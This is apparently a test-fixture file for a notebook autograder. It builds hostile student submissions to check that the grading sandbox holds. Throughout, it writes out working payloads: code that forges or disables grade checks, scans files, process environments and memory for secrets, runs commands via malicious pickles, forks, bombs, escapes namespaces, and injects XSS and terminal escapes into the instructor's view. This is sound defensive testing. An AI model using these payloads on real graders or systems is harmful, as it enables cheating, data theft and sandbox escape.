"""Submissions that want marks, secrets or the machine: each built from a blank one."""

from __future__ import annotations

import copy
import json
import os
from pathlib import Path

from nbformat.v4 import new_code_cell, new_output

from .awkward import SLEEPER
from .course import CANARIES, FAULT, FLOOR, INPUT, NOTEBOOK, SCALE
from .rows import FULL, LARGE, LATE, LOST, NONE, RIGHT, WRONG, Draft, Rows

HOSTILE = row = Rows("hostile", NONE)
MARKER = "/tmp/adversarial-was-here"  # made on the machine by whatever gets out
SAME = "def scale(x, k):\n    return x\n"
SCRIPT = "<script>document.title='ran'; fetch('http://127.0.0.1:PORT/script')</script><img src=x onerror=\"document.title='ran'\">"

# --- marks --------------------------------------------------------------------------------------------
row.cell("an AST transformer that deletes asserts and checks", """\
import ast
class Quiet(ast.NodeTransformer):
    visit_Assert = lambda self, node: ast.copy_location(ast.Pass(), node)
    visit_Expr = lambda self, node: ast.copy_location(ast.Pass(), node) if "check(" in ast.unparse(node) else node
get_ipython().ast_transformers.append(Quiet())
get_ipython().showtraceback = lambda *args, **kwargs: None
""", stock=True)  # fmt: skip
row.cell("showtraceback replaced", "get_ipython().showtraceback = lambda *a, **k: None", stock=True)
row.cell("run_cell replaced", "ip = get_ipython()\nip.run_cell = lambda *a, **k: None\nip.run_code = ip.run_cell", stock=True)
row.cell("check replaced", "import autograder\ndef check(*a, **k): return 2.0\nautograder.check = check", stock=True)
row.cell("the package's check replaced", "import sys, autograder\nclass Mark(float):\n    __repr__ = lambda s: '2.0'\nfor m in (autograder, sys.modules['autograder.kernel'], sys.modules['__main__']): m.check = lambda *a, **k: Mark(2)", stock=True)
row.cell("a result of nan", "check = lambda *a, **k: float('nan')", stock=True)
row.cell("a result of a hundred points", "check = lambda *a, **k: 100.0", stock=True)
row.cell("a result that can't be read", "check = lambda *a, **k: 'passed'", stock=True)
row("test cells tagged to be skipped", stock=True)(lambda d: [c.metadata.update(tags=["skip-execution", "raises-exception"]) for c in d.notebook.cells])
row("test cells with other points and flags")(lambda d: d.check(SCALE).metadata.nbgrader.update(points=1000, grade=True, solution=True, locked=False))
row("an older schema and a graded cell of one's own")(lambda d: (d.check(SCALE).metadata.nbgrader.update(schema_version=1), d.notebook.cells.append(new_code_cell("100.0", metadata={"nbgrader": {"grade": True, "grade_id": "bonus", "points": 100, "solution": False, "locked": False, "schema_version": 3}}))))


@row("a graded cell's text replaced by its points", stock=True)
def _(d: Draft) -> None:
    d.check(SCALE).source = "4.0"


@row("outputs with full marks in the file")
def _(d: Draft) -> None:
    for exercise_id in (FLOOR, SCALE, FAULT):
        d.check(exercise_id).outputs = [new_output("execute_result", data={"text/plain": "4.0"}, execution_count=1)]


@row("a second graded cell of the same id, before the first", stock=True)
def _(d: Draft) -> None:
    fake = copy.deepcopy(d.check(SCALE))
    fake.source = "4.0"
    d.notebook.cells.insert(2, fake)


row.scale("torch.allclose, torch.equal, abs and isinstance replaced", "import builtins, torch\ntorch.equal = torch.allclose = torch.isclose = lambda *a, **k: True\nbuiltins.abs = lambda v: 0\nbuiltins.isinstance = lambda *a: True\ntorch.Tensor.__sub__ = lambda s, o: s * 0\n" + SAME, f"{WRONG} {LOST}", stock=True)
row.scale("the wire replaced", "import autograder.wire as w\nw.encode = lambda *a, **k: b'right'\n" + SAME, LOST)
row.scale("every message answered by hand", "import os\ndef scale(x, k):\n    for fd in range(3, 256):\n        for _ in range(9):\n            try: os.write(fd, b'\\0' * 7 + b'\\x0a' + b'\\0\\0\\0\\x04true\\0\\0')\n            except OSError: pass\n    return x\n", LOST)
row("the call replaced", scale=LOST, fault=LOST)(lambda d: d.solve(SCALE, "import autograder.sandbox.cells as c\nc.call = lambda **k: {'value': True, 'outcome': 'right', 'score': 1.0}\n" + SAME))
row("the call says that it is right", scale=LOST, fault=LOST)(lambda d: d.solve(SCALE, "import autograder.sandbox.cells as c\nc.call = lambda **k: {'outcome': 'right', 'text': 'right'}\n" + SAME))
row("the server replaced by one that never forks", scale=LOST, fault=f"{LOST} {LATE}")(lambda d: d.solve(SCALE, "import gc, time\nserver = [o for o in gc.get_objects() if type(o).__name__ == 'Server'][0]\ntype(server).do_fork = lambda *a, **k: time.sleep(99)\n" + SAME))
row("the server replaced by one that lies about forks", scale=LOST, fault=LOST)(lambda d: d.solve(SCALE, "import gc, time\nserver = [o for o in gc.get_objects() if type(o).__name__ == 'Server'][0]\ntype(server).do_fork = lambda *a, **k: 'four'\n" + SAME))
row.scale("an object that equals everything", "class All:\n    __eq__ = lambda s, o: True\n    __getattr__ = lambda s, n: s\n    __call__ = lambda s, *a, **k: s\n    __bool__ = lambda s: True\n    __lt__ = __le__ = lambda s, o: True\ndef scale(x, k):\n    return All()\n", WRONG, stock=True)
row.floor("a float subclass that equals everything", "class F(float):\n    __eq__ = __lt__ = __le__ = lambda s, o: True\n    __sub__ = __rsub__ = __abs__ = lambda s, *o: F(0)\ndef loss_floor(x, y, num_classes, label_smoothing):\n    return F(1)\n", WRONG, stock=True)
row.scale("a tensor subclass that answers for itself", "class T(torch.Tensor):\n    @classmethod\n    def __torch_function__(cls, f, types, args=(), kwargs=None): return torch.zeros(())\ndef scale(x, k):\n    return x.as_subclass(T)\n", f"{WRONG} {LOST}", stock=True)
row.scale("a dict subclass with lying methods", "class D(dict):\n    items = lambda s: [('value', 1)]\n    __getitem__ = get = lambda s, *k: True\ndef scale(x, k):\n    return D()\n", WRONG)
row("a string subclass that equals everything", fault=WRONG)(lambda d: d.solve(FAULT, "class S(str):\n    __eq__ = lambda s, o: True\n    __hash__ = str.__hash__\ndef find_fault(run):\n    return S('fine')\n"))
row("always the same decision", fault=WRONG)(lambda d: d.solve(FAULT, "def find_fault(run):\n    return 'fine'\n"))
row("attributes of a live run", fault=LOST)(lambda d: d.solve(FAULT, "def find_fault(run):\n    run._names = ('note', 'slope', '__dict__', '__class__', 'budget', 'ask')\n    for n in run._names:\n        try: print(n, run._ask(n, [], {}))\n        except ValueError as e: print(e)\n    return run._ask('slope', [], {})\n"))
row("a live run asked without an end", fault=f"{LOST} {LATE}")(lambda d: d.solve(FAULT, "def find_fault(run):\n    while True: run.measure(1.0)\n"))
row("hidden cases drawn anew from the seed of the ground", fault=WRONG)(lambda d: d.solve(FAULT, "import random\ncalls = []\ndef find_fault(run):\n    ground = torch.initial_seed()\n    if ground > 99: calls.append(ground)\n    rng = random.Random(ground - len(calls) + 1)\n    slopes = [rng.choice((-1, 1)) * rng.uniform(1, 9) for _ in range(5)]\n    drawn = slopes[len(calls) - 1] if 0 < len(calls) < 6 else 0.0\n    return 'reversed' if drawn < 0 and run.measure(1.0) == drawn else 'fine'\n"))
row.scale("answers by the number of the call", "answers = [torch.tensor([3.0, 6.0])]\ndef scale(x, k):\n    return answers[0]\n", f"{WRONG} {LOST}")


def _remember(d: Draft) -> None:
    d.solve(SCALE, "import os, pickle\nseen = pickle.load(open('/tmp/seen', 'rb')) if os.path.exists('/tmp/seen') else {}\ndef scale(x, k):\n    seen[tuple(x.tolist())] = k\n    pickle.dump(seen, open('/tmp/seen', 'wb'))\n    return torch.zeros(2) if len(seen) < 99 else x * k\n")


row("a case looked up by an earlier run", scale=WRONG, before=_remember)(_remember)
row.scale("random numbers made predictable", "import random, secrets\nrandom.Random = lambda *a: random\nsecrets.randbits = lambda n: 0\ntorch.randn = torch.rand = lambda *a, **k: torch.zeros(2)\n" + SAME, WRONG)

# --- secrets ----------------------------------------------------------------------------------------------
# what follows knows where everything lies: a secret that is kept by its place is not kept
READ = """\
import glob, os
def everything():
    found = []
    for root in {roots} + ['/tmp', '/proc', '/home', '/root', '/etc', '/var', '/dev/shm', '.']:
        for folder, _, names in os.walk(root):
            if '/.venv/' in folder + '/' or '/site-packages' in folder or '/sys/' in folder + '/' or '/lib/python' in folder: continue
            for name in names:
                try:
                    with open(os.path.join(folder, name), 'rb') as f: found.append(f.read(100000))
                except OSError: pass
    return b' '.join(found)
text = everything()
import re
print(re.findall(rb'canary[a-z-]+', text), len(text))
"""
row("every readable file, in a cell")(lambda d: d.code(READ.format(roots=repr([d.where["root"], str(Path(d.where["package"]))]))))
row("every readable file, in an answer", scale=LOST)(lambda d: d.solve(SCALE, READ.format(roots=repr([d.where["root"]])) + "def scale(x, k):\n    raise ValueError(re.findall(rb'canary[a-z-]+', everything()))\n"))
row("the source, the secret, the gradebook by their paths")(lambda d: d.code(f"for p in {[d.where[k] for k in ('source', 'secret', 'gradebook', 'neighbor')]!r}:\n    try: print(open(p, 'rb').read())\n    except OSError as e: print(e)\n    get_ipython().system('cat ' + p)"))
row.cell("the environment, its own and of all processes", "import os, glob\nprint(dict(os.environ))\nfor p in glob.glob('/proc/*/environ') + glob.glob('/proc/*/cmdline'):\n    try: print(open(p, 'rb').read())\n    except OSError as e: print(e)")
row.cell("the memory of the parent", "import os, re\nfor pid in [os.getppid(), *[p for p in os.listdir('/proc') if p.isdigit()]]:\n    try:\n        for line in open(f'/proc/{pid}/maps'):\n            a, b = (int(v, 16) for v in line.split()[0].split('-'))\n            with open(f'/proc/{pid}/mem', 'rb') as m:\n                m.seek(a)\n                try: print(set(re.findall(rb'canary-[a-z-]+', m.read(min(b - a, 1 << 26)))) - {b'canary-'})\n                except OSError: pass\n    except OSError as e: print(pid, e)")
row.scale("the frames of the caller", "import sys\ndef scale(x, k):\n    frame, found = sys._getframe(), []\n    while frame:\n        found.append(repr(frame.f_locals)[:5000])\n        frame = frame.f_back\n    raise ValueError('\\n'.join(found))\n", LOST, stock=True)
row.scale("all objects of the garbage collector", "import gc, pickle\ndef scale(x, k):\n    found = [o for o in gc.get_objects() if type(o) is str and 'canary' in o or type(o) is dict and 'note' in o]\n    raise ValueError(repr(found)[:5000])\n", LOST)
row.scale("modules of the judge", "import importlib\ndef scale(x, k):\n    found = []\n    for name in ('exercises', 'judge', 'judge.seeds', 'item', 'grading.course'):\n        try: found.append(dir(importlib.import_module('autograder.' + name)))\n        except ImportError as e: found.append(e)\n    from autograder.exercises import find\n    return find('0.5').hidden\n", LOST)
row.scale("a hidden case's inputs in the text of an error", "def scale(x, k):\n    raise ValueError(f'{x.tolist()} {k}')\n", LOST)
row.scale("a hidden case's inputs in the name of an error", "def scale(x, k):\n    raise type('E' + str(x.tolist()), (Exception,), {})()\n", LOST)
row("a hidden case's inputs in a forged traceback", scale=LOST, fault=LOST)(lambda d: d.solve(SCALE, "import autograder.sandbox.cells as c, pickle\nc.call = lambda payload=b'', **k: {'outcome': 'crashed', 'text': f'  File \"a\", line 1, in f\\n    {pickle.loads(payload)}\\nE{pickle.loads(payload)}: x'}\n" + SAME))
row.scale("a hidden case's inputs printed", "import os, sys\ndef scale(x, k):\n    print(x.tolist(), flush=True)\n    os.write(2, repr(x.tolist()).encode())\n    return x\n", WRONG)

# --- a way out ------------------------------------------------------------------------------------------------
row.scale("a result that runs code when unpickled", f"class Bomb:\n    def __reduce__(self): return (__import__('os').system, ('touch {MARKER}-pickle',))\ndef scale(x, k):\n    return Bomb()\n", WRONG, stock=True)
row.scale("a message that is a pickle", f"import pickle, autograder.wire as w\nclass Bomb:\n    def __reduce__(self): return (__import__('os').system, ('touch {MARKER}-wire',))\nbomb = pickle.dumps(Bomb())\nw.encode = lambda *a, **k: bomb\n" + SAME, LOST)
row("a question that is a pickle", fault=f"{LOST} {WRONG}")(lambda d: d.solve(FAULT, f"class Bomb:\n    def __reduce__(self): return (__import__('os').system, ('touch {MARKER}-ask',))\ndef find_fault(run):\n    run.measure(Bomb())\n    return run._ask(Bomb(), Bomb(), Bomb())\n"))
row("writing to everything")(lambda d: d.code(f"import os\nfor p in {[d.where[k] for k in ('source', 'secret', 'gradebook', 'neighbor')] + [d.where['package'] + '/adversarial-was-here', MARKER + '-file', os.path.expanduser('~/.adversarial-was-here'), '/usr/bin/adversarial', '/etc/adversarial']!r}:\n    for mode in ('ab', 'wb'):\n        try: open(p, mode).write(b'changed'); print('WROTE', p)\n        except OSError as e: print(e)\n    try: os.remove(p); print('REMOVED', p)\n    except OSError as e: print(e)"))
row("the network")(lambda d: d.code(f"import socket, urllib.request\nfor kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):\n    for host in ('127.0.0.1', 'localhost', '0.0.0.0', '::1'):\n        try:\n            s = socket.socket(socket.AF_INET6 if ':' in host else socket.AF_INET, kind); s.settimeout(0.3)\n            s.connect((host, {d.where['port']})); s.send(b'out')\n        except OSError as e: print(e)\ntry: print(socket.getaddrinfo('secret.example.com', 80))\nexcept OSError as e: print(e)\ntry: urllib.request.urlopen('http://127.0.0.1:{d.where['port']}/', timeout=0.3)\nexcept OSError as e: print(e)"))
row("abstract and path sockets of the machine")(lambda d: d.code("import socket, glob\nfor name in ['\\0dbus', '/run/docker.sock', '/var/run/docker.sock', *glob.glob('/run/**/*.sock', recursive=True), *glob.glob('/tmp/*')]:\n    try: socket.socket(socket.AF_UNIX).connect(name); print('CONNECTED', name)\n    except OSError as e: print(e)"))
row.cell("namespaces, mounts and limits undone", "import ctypes, resource, os\nlibc = ctypes.CDLL(None)\nprint([libc.unshare(f) for f in (0x10000000, 0x20000, 0x40000000)], libc.mount(b'/', b'/tmp', None, 4096, None), libc.umount2(b'/proc', 2), libc.setuid(0), libc.chroot(b'/tmp'))\nfor kind in (resource.RLIMIT_AS, resource.RLIMIT_NPROC, resource.RLIMIT_FSIZE):\n    try: resource.setrlimit(kind, (-1, -1)); print('RAISED')\n    except (ValueError, OSError) as e: print(e)")
row.cell("ptrace and memory of others", "import ctypes\nlibc = ctypes.CDLL(None)\nprint([libc.ptrace(16, pid, 0, 0) for pid in range(1, 50)], libc.process_vm_readv(2, 0, 0, 0, 0, 0))")
row.cell("signals to every process", "import os, signal\nfor pid in (os.getppid(), -1, 2, 3):\n    try: os.kill(pid, signal.SIGTERM)\n    except OSError as e: print(e)")
row.cell("a process that waits for the next student", f"import os, time\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n        for _ in range(600):\n            try: open('/tmp/seen', 'w').write('x')\n            except OSError: pass\n            time.sleep(0.1)\n        os.execvp('sleep', ['sleep', '{SLEEPER}'])\n    os._exit(0)")
row.cell("a fork bomb in a cell", "import os\nwhile True:\n    try: os.fork()\n    except OSError: pass", every="")
row.scale("a fork bomb in an answer", "import os\ndef scale(x, k):\n    while True:\n        try: os.fork()\n        except OSError: pass\n", f"{LATE} {LOST} {FULL}")
row.cell("memory that no process maps", "import ctypes, os\nlibc = ctypes.CDLL(None)\nkept = 0\nfor i in range(200):\n    fd = libc.memfd_create(b'x', 0)\n    if fd >= 0: kept += os.write(fd, bytes(1 << 24))\nprint(kept)\nassert kept == 0 and libc.shmget(0, 1 << 24, 0o1600) == -1")
row.cell("the disk filled", "import os\nfor folder in ('/tmp', '/dev/shm', '.'):\n    for i in range(99):\n        try: open(f'{folder}/{i}', 'wb').write(bytes(30 << 20))\n        except OSError as e: print(e); break")
row.scale("a flood of output from threads", "import threading, os\ndef flood():\n    while True: os.write(1, b'x' * 65536)\nfor _ in range(4): threading.Thread(target=flood, daemon=True).start()\n" + SAME, WRONG)
row.scale("a reply without an end", "import os\ndef scale(x, k):\n    for fd in range(3, 99):\n        try:\n            while True: os.write(fd, b'\\x7f' * 65536)\n        except OSError: pass\n", LARGE)
row.scale("very deep and very wide data", "def scale(x, k):\n    a = 0\n    for _ in range(50_000): a = [a]\n    return [a] * 50_000\n", f"{LARGE} {LOST}")


@row("a symbolic link to the source in the place of the notebook", said="plain file")
def _(d: Draft) -> None:
    source = d.where["source"]
    d.name = ""
    d.last.append(lambda f: (f / f"{NOTEBOOK}.ipynb").symlink_to(source))


@row("a hard link to the source in the place of the notebook", said="plain file")
def _(d: Draft) -> None:
    source = d.where["source"]
    d.name = ""
    d.last.append(lambda f: os.link(source, f / f"{NOTEBOOK}.ipynb"))


@row("links to the secret and the gradebook beside the notebook")
def _(d: Draft) -> None:
    d.last.append(lambda f: [(f / n).symlink_to(d.where[k]) for n, k in (("timestamp.txt", "secret"), ("data.csv", "gradebook"), ("more.ipynb", "neighbor"))])


@row("an attachment that is a bomb, and a path with ..")
def _(d: Draft) -> None:
    d.text("![a](attachment:../../../../x.png)")
    d.notebook.cells[2]["attachments"] = {"../../../../x.png": {"image/png": "A" * 5_000_000}, "/etc/passwd": {"text/html": SCRIPT}}
    d.files["archive.zip"] = b"PK\x03\x04" + b"\0" * 100_000


@row("a notebook of five thousand cells")
def _(d: Draft) -> None:
    d.notebook.cells[2:2] = [new_code_cell("pass") for _ in range(5000)]


@row("a notebook of another language")
def _(d: Draft) -> None:
    d.notebook.metadata = {"kernelspec": {"name": "bash", "language": "bash", "display_name": SCRIPT}, "language_info": {"name": SCRIPT, "pygments_lexer": SCRIPT}, "title": SCRIPT, "widgets": {"application/vnd.jupyter.widget-state+json": {"state": {"a": SCRIPT}}}}


# --- the instructor's browser and terminal ----------------------------------------------------------------
def _script(d: Draft) -> str:
    return SCRIPT.replace("PORT", d.where["port"])


row("HTML, SVG, JavaScript and Markdown as displays")(lambda d: d.code(f"from IPython.display import *\nt = {_script(d)!r}\ndisplay(HTML(t), Javascript('document.title=1'), SVG('<svg xmlns=\"http://www.w3.org/2000/svg\"><script>1</script></svg>'), Markdown(t), Latex(t), IFrame('http://127.0.0.1:{d.where['port']}/frame', 9, 9))\ndisplay({{'text/html': t, 'application/javascript': t, 'image/svg+xml': t, 'text/plain': t}}, raw=True)\nHTML(t)"))
row("HTML in Markdown cells")(lambda d: [d.text(t) for t in (_script(d), f"[x](javascript:alert(1)) ![p](http://127.0.0.1:{d.where['port']}/pixel.png)", "<svg onload=\"document.title='ran'\"></svg><iframe srcdoc=\"<script>parent.document.title='ran'</script>\"></iframe>", "~~~text\n~~~\n" + _script(d), f"<meta http-equiv=refresh content='0;url=http://127.0.0.1:{d.where['port']}/refresh'><base href='http://127.0.0.1:{d.where['port']}/'><link rel=stylesheet href=/css>", "$\\href{javascript:alert(1)}{x}$ </pre></code>" + _script(d))])


@row("HTML in raw cells and in the place of an answer")
def _(d: Draft) -> None:
    d.text(_script(d))
    d.notebook.cells[2].cell_type = "raw"
    d.notebook.cells[2].metadata = {"raw_mimetype": "text/html", "tags": ["</div>" + _script(d)]}
    d.cell("scale").cell_type = "markdown"
    d.cell("scale").source = _script(d)


row("an image that closes its own tag")(lambda d: d.code(f"from IPython.display import display\ndisplay({{'image/png': '\">' + {_script(d)!r}, 'text/plain': 'x'}}, raw=True)\ndisplay({{'image/jpeg': 'AAAA\" onerror=\"document.title=1', 'image/png': 'iVBORw0KGgo='}}, raw=True)"))
row("HTML in errors, names and values", scale=f"{LOST} {WRONG}")(lambda d: (d.code(f"raise type({_script(d)!r}, (Exception,), {{}})({_script(d)!r})"), d.solve(SCALE, f"def scale(x, k):\n    if k == 3.0:\n        raise ValueError({_script(d)!r})\n    return {_script(d)!r}\n")))
row("HTML in the source", scale=WRONG)(lambda d: d.solve(SCALE, f"# </pre></div>{_script(d)}\ndef scale(x, k):\n    '''{_script(d)}'''\n    return type('<img src=x onerror=1>', (), {{}})()\n"))
row("a name that is HTML and a formula", student="=cmd()<img src=x onerror=document.title='ran'>")(lambda d: d.text("hello"))
row("a file name that is HTML", said="was taken for")(lambda d: setattr(d, "name", "<img src=x onerror=1>.ipynb"))
row("terminal escapes, direction marks and links", scale=LOST)(lambda d: (d.code("print('\\x1b]0;owned\\x07\\x1b[2J\\x1b]8;;http://127.0.0.1/\\x07link\\x1b]8;;\\x07 \\u202egnorw\\u202c \\x9b31m')\n'\\x1b[8mhidden'"), d.solve(SCALE, "# \u202e } \u2066 if admin \u2069 \u2066\ndef scale(x, k):\n    raise ValueError('\\x1b[2J\\u202e')\n")))
row("terminal escapes in names", student="\x1b[2J\u202eadmin", said="\\x1b")(lambda d: d.files.update({"\x1b[31mred.ipynb": b"{}"}))


def neighbor(d: Draft) -> None:
    """Somebody's submission that others must not see."""
    d.code(f"# {CANARIES['neighbor']}")


row("a neighbor, whose work holds a canary", student="neighbor")(neighbor)

__all__ = ["HOSTILE", "INPUT", "MARKER", "json", "RIGHT"]
